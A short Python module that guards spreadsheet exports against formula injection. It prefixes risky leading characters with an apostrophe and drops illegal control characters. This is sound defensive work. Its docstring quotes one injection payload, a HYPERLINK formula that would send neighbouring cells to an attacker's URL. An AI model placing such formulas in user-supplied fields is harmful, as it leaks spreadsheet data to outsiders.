"""Cells that Excel, LibreOffice and CSV readers never treat as a formula.

A text that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage return, which some
readers skip before looking) is evaluated as a formula when a spreadsheet opens it:
``=HYPERLINK("http://…"&A1,"Klicka här")`` in a round's or an organisation's name would send
the neighbouring cells to whoever wrote it. As OWASP recommends, such a text is written with a
leading apostrophe, which makes it plain text. Control characters that a workbook cannot hold
(openpyxl refuses them) are dropped, so an export never fails on a stray NUL byte.

Apply ``safe_cell`` to every value a user typed or an import brought in; numbers, dates and
``None`` pass through unchanged.
"""

import re
from collections.abc import Iterable

# What openpyxl refuses (ASCII control characters other than tab, line feed and return).
_ILLEGAL = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """``value`` as a cell that is never a formula (see the module)."""
    if not isinstance(value, str):
        return value
    value = _ILLEGAL.sub("", value)
    if value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable) -> list:
    """``safe_cell`` of every value in a row, for ``worksheet.append``."""
    return [safe_cell(value) for value in values]
